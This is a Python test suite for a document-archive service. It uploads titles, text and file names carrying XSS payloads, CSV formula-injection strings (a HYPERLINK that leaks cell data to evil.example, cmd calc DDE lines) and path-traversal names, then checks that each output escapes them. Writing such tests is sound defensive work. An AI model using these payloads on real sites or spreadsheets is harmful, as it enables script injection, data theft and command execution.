"""Injection through what uploaders write (titles, symbols, text, HTML headings, file names), read
back through every output: the JSON API (parses strictly and round-trips the strings), the Atom
feeds (well-formed XML, the strings escaped, not dropped), the evidence CSV (cells that begin with
= + - @ TAB CR neutralised, OWASP), the Markdown export (uploaders' text escaped: no link, emphasis,
code, HTML or entity of theirs is live) and the web page (no HTML sink in its code; in Chromium,
the uploaded strings show as text and add no element)."""

import csv
import io
import os
import re
import shutil
import signal
import subprocess
import urllib.parse
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import harness as H

ATOM = "{http://www.w3.org/2005/Atom}"
ITEM = "activity:1"

# Strings that break a careless JSON writer, HTML page, XML feed, CSV or Markdown renderer.
HOSTILE = [
    '</script><script>alert("hx")</script>',
    "<img src=x onerror=alert(1)>",
    "\"quotes\" 'apostrophes'",
    "\\u0000 \\n \\\" literal escapes",
    "back\\slash",
    '"}],"x":{"y":"',
    "</title><title>owned",
    "]]><!-- -->",
    "&amp; &lt;b&gt; &#x3C;i&#62;",
    "\u2028line\u2029para",
    "emoji \U0001F600",
]
MD_HOSTILE = ("[x](javascript:alert(1)) <b>bold</b> \\[y\\](javascript:alert(2)) *em* _u_ `code` "
              "![i](http://evil.example/t.png) &lt;b&gt; <http://evil.example> | #")
CSV_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CSV_SYMBOLS = ["=1+2", "+1-1", "-1+1", "@A1"]
CSV_FIELDS = ["item", "document", "title", "symbol", "date", "page", "passage", "method", "score", "status",
              "permalink", "text"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def ws(s):
    return re.sub(r"\s+", " ", s).strip()


def sidecar(doc_id, title, symbol=None):
    esc = (lambda s: s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
           .replace("\t", "&#9;").replace("\r", "&#13;"))
    sym = "<symbol>%s</symbol>" % esc(symbol) if symbol else ""
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<document xmlns="urn:atip:document" version="1">'
            "<id>%s</id><title>%s</title><type>report</type>%s<date>2021-03-04</date>"
            "<jurisdiction>INT</jurisdiction><language>en</language></document>" % (doc_id, esc(title), sym)).encode()


class Dom(HTMLParser):
    """What the rendered page holds: elements, attributes, text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, attrs)
        self.text = []
        self._script = False
        self.script_text = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        self._script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False

    def handle_data(self, data):
        (self.script_text if self._script else self.text).append(data)


class State:
    ok = True
    problems = []
    docs = {}  # key -> (id, title, text, symbol)


def run(ctx):
    st = State()
    st.problems = []
    st.docs = {}

    def up(key, title, text, symbol=None, content=None, filename="doc.txt", ctype="text/plain", use_sidecar=False):
        doc_id = ctx.fresh_id("inj-" + key)
        body = content if content is not None else text.encode("utf-8")
        if use_sidecar:
            fields = [("file", body, filename, ctype), ("metadata", sidecar(doc_id, title, symbol), "meta.xml",
                                                         "application/xml")]
            ctype_h, mp = H.multipart(fields)
            r = H.request(ctx.port, "POST", "/api/v1/documents", [ctx.bearer(), ("Content-Type", ctype_h)], mp,
                          timeout=30)
        else:
            extra = [("symbol", symbol)] if symbol else []
            r = ctx.upload(doc_id, title, body, filename=filename, ctype=ctype, extra=extra)
        if r.status != 201:
            st.problems.append("upload %s (%r) -> %s" % (key, title[:60], r.describe(200)))
            return None
        rv = ctx.review(doc_id, 1, ITEM)
        if rv.status != 200:
            st.problems.append("link review of %s -> %s" % (key, rv.describe(200)))
        st.docs[key] = (doc_id, title, text, symbol)
        return doc_id

    main_title = "hxzqmain " + " ".join(HOSTILE)
    # One paragraph, so that it is one passage (the feed's summary is the first passage).
    main_text = ("hxzqmain shelters for victims of trafficking in persons.\n" + "\n".join(HOSTILE) +
                 "\nMDX1 " + MD_HOSTILE + " MDX2\n")
    up("main", main_title, main_text, symbol='</symbol>"<x>&')
    up("md", "MDT1 " + MD_HOSTILE + " MDT2", "MDX1 " + MD_HOSTILE + " MDX2 on shelters for victims.\n",
       symbol="MDS1 [s](javascript:alert(3)) <i>s</i> MDS2")
    for i, (title, symbol) in enumerate(zip(CSV_TITLES, CSV_SYMBOLS)):
        up("csv%d" % i, title, title + " begins this passage on shelters for victims.\n", symbol=symbol)
    # Titles whose first character a form field would trim: through the XML sidecar, a TAB or CR survives.
    up("csvtab", "\t=HYPERLINK(\"http://evil.example\",\"tab\")", "Tab-led title, text on shelters.\n",
       use_sidecar=True)
    up("csvcr", "\r=1+1 cr-led", "CR-led title, text on shelters.\n", use_sidecar=True)
    html_page = ("<!doctype html><html><head><meta charset=\"utf-8\"><title>&lt;script&gt;alert(9)&lt;/script&gt;</title>"
                 "<script>alert('inline')</script></head><body><h1>HXH1 &lt;img src=x onerror=alert(1)&gt; head HXH2</h1>"
                 "<p>hxzqhtml &lt;/script&gt;&lt;script&gt;alert(2)&lt;/script&gt; para <img src=x onerror=alert(3)>"
                 " <a href=\"javascript:alert(4)\">link text</a> \"quotes\" =HYPERLINK(\"x\") on shelters for"
                 " victims of trafficking.</p></body></html>")
    up("html", "hxzqhtml <img src=x onerror=alert(5)> </script>", "hxzqhtml", content=html_page.encode(),
       filename="page.html", ctype="text/html")

    def setup():
        H.expect(not st.problems, "; ".join(st.problems))
        return "%d documents uploaded with hostile titles, symbols and text, each linked to %s" % (len(st.docs), ITEM)
    H.run_check("injection/uploads-accepted", setup)

    def need(*keys):
        missing = [k for k in keys if k not in st.docs]
        if missing:
            raise H.Fail("the upload of %s failed (see injection/uploads-accepted)" % ", ".join(missing))

    # ------------------------------------------------------------------ JSON

    def json_document():
        problems = []
        for key, (doc_id, title, _text, symbol) in st.docs.items():
            r = H.get(ctx.port, "/api/v1/documents/" + doc_id)
            try:
                d = r.json()
            except Exception as e:  # noqa: BLE001
                problems.append("%s: GET document does not parse as JSON (%s): %r" % (key, e, r.body[:200]))
                continue
            if d.get("title") not in (title, title.strip()):
                problems.append("%s: title %r, uploaded %r" % (key, d.get("title"), title))
            if symbol and d.get("symbol") != symbol:
                problems.append("%s: symbol %r, uploaded %r" % (key, d.get("symbol"), symbol))
            v = H.get(ctx.port, "/api/v1/documents/%s/versions" % doc_id)
            try:
                vt = v.json()["versions"][0]["title"]
                if vt not in (title, title.strip()):
                    problems.append("%s: versions title %r" % (key, vt))
            except Exception as e:  # noqa: BLE001
                problems.append("%s: versions JSON broken (%s): %r" % (key, e, v.body[:200]))
        if problems:
            raise H.Fail("; ".join(problems))
        return "%d documents: GET /documents/{id} and /versions parse strictly, titles and symbols round-trip" % len(st.docs)
    H.run_check("injection/json-document-roundtrip", json_document)

    def json_passage():
        need("main", "md")
        doc_id, _t, text, _s = st.docs["main"]
        n = len(H.get(ctx.port, "/api/v1/documents/" + doc_id).json()["passages"])
        got = ws(" ".join(H.get(ctx.port, "/api/v1/documents/%s/passages/%d" % (doc_id, i)).json()["text"]
                          for i in range(1, n + 1)))
        missing = [s for s in HOSTILE if ws(s) not in got]
        H.expect(not missing, "passage text lost or altered %r; it reads %r" % (missing, got[:400]))
        doc_id, _t, text, _s = st.docs["md"]
        got = ws(H.get(ctx.port, "/api/v1/documents/%s/passages/1" % doc_id).json()["text"])
        H.expect(ws(MD_HOSTILE) in got, "Markdown-like text altered: %r" % got[:300])
        return "passage text parses and holds every hostile string verbatim"
    H.run_check("injection/json-passage-roundtrip", json_passage)

    def json_search():
        need("main")
        doc_id, title, _x, _s = st.docs["main"]
        problems = []
        for q in ("hxzqmain", 'hxzqmain "</title>"', "hxzqmain OR <img>", "title:hxzqmain"):
            r = H.get(ctx.port, "/api/v1/search?q=%s&include=text&group=passage" % urllib.parse.quote(q))
            if r.status == 400:
                try:
                    r.json()["error"]["message"]
                except Exception:  # noqa: BLE001
                    problems.append("q=%r: 400 without JSON: %r" % (q, r.body[:200]))
                continue
            try:
                res = r.json()
            except Exception as e:  # noqa: BLE001
                problems.append("q=%r: search JSON broken (%s): %r" % (q, e, r.body[:300]))
                continue
            if res["query"]["q"] != q:
                problems.append("q=%r echoed as %r" % (q, res["query"]["q"]))
            hits = [h for h in res["hits"] if h["id"] == doc_id]
            if q == "hxzqmain" and not hits:
                problems.append("q=hxzqmain does not find the uploaded document")
            for h in hits:
                if h["title"] != title:
                    problems.append("hit title %r" % h["title"][:200])
                snip = h["passage"]["snippet"]
                bare = snip.replace("<mark>", "").replace("</mark>", "")
                if "<" in bare or ">" in bare or re.search(r"&(?!(amp|lt|gt|quot|#39|#x27|apos);)", bare):
                    problems.append("snippet has markup besides <mark> (API.md: HTML-escaped text): %r" % snip[:300])
        if problems:
            raise H.Fail("; ".join(problems))
        return "search JSON parses, echoes q, titles round-trip, snippets are escaped text with <mark> only"
    H.run_check("injection/json-search-roundtrip", json_search)

    def json_suggest():
        problems = []
        for q in ("hxzq", "<img", '"}', "\\u0000", "</script>"):
            r = H.get(ctx.port, "/api/v1/suggest?q=" + urllib.parse.quote(q))
            try:
                d = r.json()
                if r.status == 200 and (d["q"] != q or not isinstance(d["suggestions"], list)):
                    problems.append("suggest q=%r -> %r" % (q, d))
            except Exception as e:  # noqa: BLE001
                problems.append("suggest q=%r: JSON broken (%s): %r" % (q, e, r.body[:200]))
        H.expect(not problems, "; ".join(problems))
        return "suggest JSON parses and echoes q for hostile prefixes"
    H.run_check("injection/json-suggest", json_suggest)

    def json_evidence():
        r = H.get(ctx.port, "/api/v1/workplan/" + ITEM)
        ev = r.json()["evidence"]
        ours = {e["id"]: e for e in ev}
        problems = []
        for key, (doc_id, title, _x, _s) in st.docs.items():
            e = ours.get(doc_id)
            if not e:
                problems.append("%s is not in the evidence of %s" % (key, ITEM))
            elif e["title"] not in (title, title.strip()):
                problems.append("%s: evidence title %r" % (key, e["title"]))
        H.expect(not problems, "; ".join(problems))
        return "GET /api/v1/workplan/%s parses; the %d uploads are in its evidence with their titles" % (ITEM, len(st.docs))
    H.run_check("injection/json-workplan-evidence", json_evidence)

    def json_control_chars():
        problems, verdicts = [], []
        for label, title in (("C0-DEL-nonchars", "hxzqctl \x01\x08\x1b\x1f\x7f \ufffe\uffff end"),
                             ("NUL", "hxzqctl nul \x00 end")):
            doc_id = ctx.fresh_id("inj-ctl")
            before = ctx.snapshot()
            r = ctx.upload(doc_id, title, b"Control characters in the title; text on shelters.\n")
            if 400 <= r.status < 500:
                try:
                    r.json()["error"]["message"]
                except Exception:  # noqa: BLE001
                    problems.append("%s: %d without JSON" % (label, r.status))
                change = ctx.changes(before, ctx.snapshot())
                if change:
                    problems.append("%s: refused (%d) but written: %s" % (label, r.status, change))
                verdicts.append("%s refused %d" % (label, r.status))
                continue
            if r.status != 201:
                problems.append("%s: upload -> %s" % (label, r.describe(200)))
                continue
            verdicts.append("%s accepted" % label)
            for target in ("/api/v1/documents/" + doc_id, "/api/v1/documents/%s/versions" % doc_id,
                           "/api/v1/search?q=hxzqctl", "/api/v1/workplan"):
                g = H.get(ctx.port, target)
                try:
                    g.json()
                except Exception as e:  # noqa: BLE001
                    problems.append("%s: %s is not strict JSON (%s): %r" % (label, target, e, g.body[:200]))
            d = H.get(ctx.port, "/api/v1/documents/" + doc_id).json()
            if d["title"] != title:
                problems.append("%s: title %r, uploaded %r" % (label, d["title"], title))
            f = H.get(ctx.port, "/api/v1/feeds/documents")
            try:
                ET.fromstring(f.body)
            except ET.ParseError as e:
                problems.append("%s: the documents feed is not well-formed XML (%s)" % (label, e))
        H.expect(not problems, "; ".join(problems))
        return "; ".join(verdicts) + "; JSON strict and feed well-formed where accepted"
    H.run_check("injection/json-control-characters", json_control_chars)

    # ------------------------------------------------------------------ Atom

    def feed_entries(body, what):
        try:
            root = ET.fromstring(body)
        except ET.ParseError as e:
            raise H.Fail("%s is not well-formed XML (%s): %r" % (what, e, body[:300]))
        H.expect(root.tag == ATOM + "feed", "%s: root is %s" % (what, root.tag))
        return root, root.findall(ATOM + "entry")

    def xml_visible(s):
        return "".join(c for c in s if c in "\t\n\r" or (0x20 <= ord(c) and c not in "\ufffe\uffff"))

    def atom_documents():
        need("main", "html")
        r = H.get(ctx.port, "/api/v1/feeds/documents?size=100")
        H.expect(r.status == 200, r.describe())
        _root, entries = feed_entries(r.body, "/api/v1/feeds/documents")
        problems = []
        by_related = {}
        for e in entries:
            for link in e.findall(ATOM + "link"):
                if link.get("rel") == "related":
                    by_related[link.get("href", "").rsplit("/", 1)[-1]] = e
        for key, (doc_id, title, text, _s) in st.docs.items():
            e = by_related.get(doc_id)
            if e is None:
                problems.append("%s has no entry" % key)
                continue
            t = e.findtext(ATOM + "title")
            if t != xml_visible(title) and t != xml_visible(title).strip():
                problems.append("%s: entry title %r, uploaded %r" % (key, t, title))
            if key == "main":
                summary = ws(e.findtext(ATOM + "summary") or "")
                lost = [s for s in HOSTILE if ws(xml_visible(s)) not in summary]
                if lost:
                    problems.append("main: summary lost %r" % lost)
        if b"<img src=x" in r.body or b"<script>" in r.body:
            problems.append("raw markup in the feed bytes")
        H.expect(not problems, "; ".join(problems))
        return "well-formed Atom; %d uploads' titles and text come back escaped and intact" % len(st.docs)
    H.run_check("injection/atom-documents-feed", atom_documents)

    def atom_search():
        need("main")
        doc_id, title, _x, _s = st.docs["main"]
        problems = []
        for q, extra in (("hxzqmain", ""), ('hxzqmain OR "</title><x>&"', ""), ("hxzqmain", "&jurisdiction=%3Cx%3E%26"),
                         ("hxzqmain", "&lang=en&sort=-date")):
            target = "/api/v1/feeds/search?q=%s%s" % (urllib.parse.quote(q), extra)
            r = H.get(ctx.port, target)
            if r.status == 400:
                continue
            _root, entries = feed_entries(r.body, target)
            ft = _root.findtext(ATOM + "title") or ""
            if q not in ft:
                problems.append("%s: feed title %r does not hold the query" % (target, ft))
            if q == "hxzqmain" and not extra:
                titles = [e.findtext(ATOM + "title") for e in entries]
                if xml_visible(title) not in titles:
                    problems.append("the uploaded title is not among the entries: %r" % titles[:3])
        # A Host header that is not a host name must not break the feed either.
        r = H.get(ctx.port, "/api/v1/feeds/search?q=hxzqmain", [("Host", 'x"><script>alert(1)</script>')])
        if r.status < 400:
            feed_entries(r.body, "feed with a hostile Host header")
        H.expect(not problems, "; ".join(problems))
        return "saved-search feeds well-formed with hostile queries, filters and Host; titles intact"
    H.run_check("injection/atom-search-feed", atom_search)

    def atom_workplan():
        r = H.get(ctx.port, "/api/v1/feeds/workplan/" + ITEM)
        H.expect(r.status == 200, r.describe())
        _root, entries = feed_entries(r.body, "/api/v1/feeds/workplan/" + ITEM)
        titles = [e.findtext(ATOM + "title") or "" for e in entries]
        problems = []
        for key, (doc_id, title, _x, _s) in st.docs.items():
            if not any(t.startswith(xml_visible(title).strip()) or t.startswith(xml_visible(title)) for t in titles):
                problems.append("%s: no entry titled %r" % (key, title[:60]))
        H.expect(not problems, "; ".join(problems))
        return "evidence feed well-formed, the uploads' titles intact in %d entries" % len(entries)
    H.run_check("injection/atom-workplan-feed", atom_workplan)

    # ------------------------------------------------------------------ CSV

    state_csv = {}

    def csv_rows():
        if "rows" not in state_csv:
            r = H.get(ctx.port, "/api/v1/workplan/%s?format=csv" % ITEM)
            H.expect(r.status == 200 and r.header("content-type", "").startswith("text/csv"), r.describe())
            state_csv["rows"] = list(csv.reader(io.StringIO(r.body.decode("utf-8"), newline="")))
        return state_csv["rows"]

    def csv_wellformed():
        rows = csv_rows()
        H.expect(rows and rows[0] == CSV_FIELDS, "header %r" % (rows[0] if rows else None))
        bad = [i for i, row in enumerate(rows) if len(row) != len(CSV_FIELDS)]
        H.expect(not bad, "rows %s do not have %d cells: %r" % (bad[:5], len(CSV_FIELDS), rows[bad[0]] if bad else ""))
        ids = {row[1] for row in rows[1:]}
        missing = [k for k, (d, *_r) in st.docs.items() if d not in ids]
        H.expect(not missing, "uploads missing from the CSV: %s" % missing)
        return "%d rows of %d cells; hostile quotes and separators stay inside their cells" % (len(rows), len(CSV_FIELDS))
    H.run_check("injection/csv-well-formed", csv_wellformed)

    def csv_formulas():
        rows = csv_rows()
        ours = {d: k for k, (d, *_r) in st.docs.items()}
        problems = []
        checked = 0
        for row in rows[1:]:
            if row[1] not in ours:
                continue
            key = ours[row[1]]
            _d, title, text, symbol = st.docs[key]
            for name, cell in zip(CSV_FIELDS, row):
                checked += 1
                if cell.startswith(DANGEROUS_START):
                    problems.append("%s: %s cell %r begins with %r (a spreadsheet runs it)" % (key, name, cell[:60], cell[0]))
            if title.strip() and ws(title) not in ws(row[2]):
                problems.append("%s: the title cell %r no longer holds the title %r" % (key, row[2][:60], title))
        H.expect(checked, "no row of the uploads to check")
        if problems:
            raise H.Fail("; ".join(problems) + " — GET /api/v1/workplan/%s?format=csv" % ITEM)
        return "%d cells of the uploads' rows checked: none begins with = + - @ TAB CR" % checked
    H.run_check("injection/csv-formulas-neutralised", csv_formulas)

    # ------------------------------------------------------------------ Markdown

    def markdown():
        need("md")
        r = H.get(ctx.port, "/api/v1/workplan/%s?format=markdown" % ITEM)
        H.expect(r.status == 200 and r.header("content-type", "").startswith("text/markdown"), r.describe())
        md = r.body.decode("utf-8")
        problems = []
        found = 0
        for start, end, original in (("MDT1", "MDT2", MD_HOSTILE), ("MDX1", "MDX2", MD_HOSTILE),
                                     ("MDS1", "MDS2", "[s](javascript:alert(3)) <i>s</i>")):
            for m in re.finditer(re.escape(start) + r"(.*?)" + re.escape(end), md, re.S):
                found += 1
                region = m.group(1)
                live, literal = markdown_literal(region)
                if live:
                    hint = (" (the uploader's own backslash is not escaped, so it cancels the export's escape)"
                            if "\\\\[" in region else "")
                    problems.append("%s…%s: %s%s in %r" % (start, end, ", ".join(live[:6]), hint, region.strip()[:160]))
                if ws(literal) != ws(original):
                    problems.append("%s…%s renders as %r, the uploader wrote %r" % (start, end, ws(literal), original))
        H.expect(found >= 3, "the uploaded title, text and symbol are not all in the export (%d found)" % found)
        if problems:
            raise H.Fail("; ".join(dict.fromkeys(problems)) + " — GET /api/v1/workplan/%s?format=markdown" % ITEM)
        return "%d uploader-written regions: every Markdown/HTML character escaped, text intact" % found
    H.run_check("injection/markdown-escapes-uploader-text", markdown)

    # ------------------------------------------------------------------ the page

    def web_code():
        problems = []
        for name in ("app.js", "searchbox.js"):
            with open(os.path.join(ctx.repo, "web", name), encoding="utf-8") as f:
                code = f.read()
            code_only = re.sub(r"/\*.*?\*/", "", code, flags=re.S)
            code_only = re.sub(r"(?m)^\s*//.*$", "", code_only)
            for pat in (r"\.innerHTML\b", r"\.outerHTML\b", r"insertAdjacentHTML", r"document\.write",
                        r"\beval\s*\(", r"new\s+Function\s*\(", r"setTimeout\s*\(\s*['\"]", r"setInterval\s*\(\s*['\"]",
                        r"createContextualFragment", r"\.srcdoc\b", r"DOMParser", r"javascript:"):
                for m in re.finditer(pat, code_only):
                    line = code_only[:m.start()].count("\n") + 1
                    problems.append("%s: %s near line %d" % (name, pat, line))
        with open(os.path.join(ctx.repo, "web", "index.html"), encoding="utf-8") as f:
            page = f.read()
        if re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page, re.I):
            problems.append("index.html has an inline script")
        if re.search(r"\son[a-z]+\s*=", page, re.I):
            problems.append("index.html has an inline event handler")
        r = H.get(ctx.port, "/")
        csp = r.header("content-security-policy", "")
        if "script-src 'self'" not in csp or "unsafe-inline" in csp:
            problems.append("the page's CSP does not forbid inline script: %r" % csp)
        H.expect(not problems, "; ".join(problems))
        return "app.js and searchbox.js have no HTML sink (innerHTML, insertAdjacentHTML, document.write, eval...); " \
               "no inline script; CSP script-src 'self'"
    H.run_check("injection/web-code-has-no-html-sink", web_code)

    chromium = os.environ.get("ATIP_CHROMIUM", "/usr/bin/chromium")
    views = [("document-view", "main", "/?view=document&id=%s", "hxzqmain"),
             ("document-view-html-upload", "html", "/?view=document&id=%s", "hxzqhtml"),
             ("document-view-markdown-upload", "md", "/?view=document&id=%s", "MDT1"),
             ("search-view", None, "/?q=hxzqmain&group=passage", "hxzqmain"),
             ("workplan-evidence-view", None, "/?view=workplan&item=" + ITEM, "hxzqmain")]
    for name, key, path, marker in views:
        def check(key=key, path=path, marker=marker):
            if not os.access(chromium, os.X_OK):
                raise H.Skip("no Chromium at %s (set ATIP_CHROMIUM); the page's code is still checked above" % chromium)
            if key:
                need(key)
                path = path % st.docs[key][0]
            else:
                need("main")
            dom_text = dump_dom(ctx, chromium, "http://127.0.0.1:%d%s" % (ctx.port, path))
            return judge_dom(dom_text, marker, path)
        H.run_check("injection/web-" + name, check)

    def upload_filename():
        doc_id = ctx.fresh_id("inj-name")
        names = ['x";filename*=UTF-8\'\'..%2f..%2fevil.html;a="', "..\\..\\evil.html", "<img src=x onerror=alert(1)>.txt"]
        problems = []
        for i, name in enumerate(names):
            did = "%s-%d" % (doc_id, i)
            r = ctx.upload(did, "File name test", b"A file with a hostile name, on shelters.\n", filename=name)
            if r.status != 201:
                if r.status >= 500:
                    problems.append("%r -> %s" % (name, r.describe(150)))
                continue
            f = H.get(ctx.port, "/api/v1/documents/%s/versions/1/file?download" % did)
            cds = f.header_all("content-disposition")
            if len(cds) != 1 or not re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', cds[0]):
                problems.append("%r -> Content-Disposition %r" % (name, cds))
            v = H.get(ctx.port, "/api/v1/documents/%s/versions" % did).json()
            n = v["versions"][0]["name"]
            if "/" in n or "\\" in n or "<" in n or '"' in n:
                problems.append("%r -> versions name %r" % (name, n))
        H.expect(not problems, "; ".join(problems))
        return "hostile upload file names never reach Content-Disposition or the version's name"
    H.run_check("injection/upload-file-name", upload_filename)


def markdown_literal(region):
    """CommonMark reading of an inline region: returns (live constructs, the text it renders). A
    backslash before ASCII punctuation makes it literal, an entity reference renders as its character
    (so an export may escape '<' as '&lt;', but an uploader's own '&lt;' left as is renders as '<' and
    no longer reads as what they wrote); an unescaped \\ ` * _ [ ] < is live markup."""
    import html as html_lib
    punct = set("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
    live, out, i = [], [], 0
    while i < len(region):
        c = region[i]
        if c == "\\" and i + 1 < len(region) and region[i + 1] in punct:
            out.append(region[i + 1])
            i += 2
            continue
        m = re.match(r"&(#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});", region[i:]) if c == "&" else None
        if m:
            out.append(html_lib.unescape(m.group(0)))
            i += len(m.group(0))
            continue
        if c in "\\`*_[]<":
            live.append("unescaped %r (…%s…)" % (c, region[max(0, i - 8):i + 12]))
        out.append(c)
        i += 1
    return live, "".join(out)


def dump_dom(ctx, chromium, url):
    profile = os.path.join(ctx.tmp, "chromium-profile")
    args = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync",
            "--disable-background-networking", "--disable-component-update", "--disable-extensions",
            "--user-data-dir=" + profile, "--virtual-time-budget=10000", "--dump-dom", url]
    p = H.track(subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, start_new_session=True),
                group=True)
    try:
        out, _ = p.communicate(timeout=40)
    except subprocess.TimeoutExpired:
        os.killpg(p.pid, signal.SIGKILL)
        p.communicate()
        raise H.Fail("Chromium did not render %s within 40 s" % url)
    finally:
        try:
            os.killpg(p.pid, signal.SIGKILL)  # its helpers, if any are left
        except (ProcessLookupError, PermissionError):
            pass
        if p in H._CHILDREN:
            H._CHILDREN.remove(p)
        shutil.rmtree(profile, ignore_errors=True)
    return out.decode("utf-8", "replace")


def judge_dom(html, marker, path):
    dom = Dom()
    dom.feed(html)
    text = " ".join(dom.text)
    H.expect(marker in text, "the page %s did not render the upload (no %r in its text; %d bytes of DOM)" % (
        path, marker, len(html)))
    problems = []
    for tag, attrs in dom.elements:
        a = dict(attrs)
        for k, v in attrs:
            if k.startswith("on"):
                problems.append("<%s %s=%r>" % (tag, k, v))
            if k in ("href", "src", "action", "formaction") and v and v.strip().lower().startswith("javascript:"):
                problems.append("<%s %s=%r>" % (tag, k, v))
        if tag == "img" and a.get("src") == "x":
            problems.append("an injected <img src=x>")
        if tag == "script" and not a.get("src"):
            problems.append("an inline <script>")
    for raw in ("<b>bold</b>", "<i>s</i>", "<title>owned"):
        if raw in html:
            problems.append("an injected %s" % raw)
    if "alert(" in " ".join(dom.script_text):
        problems.append("a script element holding alert(")
    H.expect(not problems, "the page %s holds uploaded markup as elements: %s" % (path, "; ".join(problems[:8])))
    return "%s: the upload shows as text, no element, handler or javascript: URL of its own" % path
